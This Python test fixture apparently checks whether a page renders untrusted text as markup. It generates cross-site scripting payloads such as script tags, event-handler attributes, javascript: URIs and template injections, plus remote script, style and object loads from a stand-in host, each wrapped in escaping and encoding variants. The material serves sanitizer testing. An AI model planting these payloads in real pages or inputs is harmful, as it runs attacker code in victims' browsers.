"""Texts that run or fetch something if a page renders them as markup."""

from collections.abc import Callable

RUN = "pwn()"  # the test counts calls
AWAY = "//foreign.example"  # the test counts requests

ATTEMPTS = (
    f"<script>{RUN}</script>",
    f"<script src={AWAY}/a.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={AWAY}/a.png>",
    f"<svg onload={RUN}>",
    f"<iframe src=javascript:{RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<a href=javascript:{RUN}>x</a>",
    f"[x](javascript:{RUN})",
    f"![x]({AWAY}/b.png)",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<style>@import '{AWAY}/c.css'</style>",
    f"<link rel=stylesheet href={AWAY}/d.css>",
    f"<meta http-equiv=refresh content=0;url={AWAY}>",
    f"<object data={AWAY}/e></object>",
    f"<form action={AWAY}><button autofocus>x",
    f"<math><mi href=javascript:{RUN}>x",
    "{{constructor.constructor('" + RUN + "')()}}",
    f"${{{RUN}}}",
    f"javascript:{RUN}",
    f"<embed src={AWAY}/f.swf>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<img srcset={AWAY}/g.png>",
    f"<table background={AWAY}/h.png>",
    f"<template><img src=x onerror={RUN}></template>",
)
WAYS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: f'">{text}',
    lambda text: f"'>{text}",
    lambda text: f"-->{text}",
    lambda text: f"</p>{text}",
    lambda text: f"</textarea>{text}",
    lambda text: f"</title>{text}",
    lambda text: f"</script>{text}",
    lambda text: f"`{text}",
    lambda text: f"*{text}*",
    lambda text: f"&lt;{text}",
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace("<", "&#60;"),
    lambda text: text.replace("<", "%3C"),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace("<", "\uff1c"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("javascript:", "java&#10;script:"),
    lambda text: text.swapcase().replace(RUN.upper(), RUN),
    lambda text: f"<![CDATA[{text}]]>",
)


def payloads(count: int) -> list[str]:
    """`count` of the 500 payloads, spread over attempts and ways. Each has its own number."""
    every = list(dict.fromkeys(way(attempt) for way in WAYS for attempt in ATTEMPTS))[:500]
    # 37 shares no factor with 500: every attempt occurs, and neighbours differ
    return [f"{number} {every[number * 37 % len(every)]}" for number in range(count)]
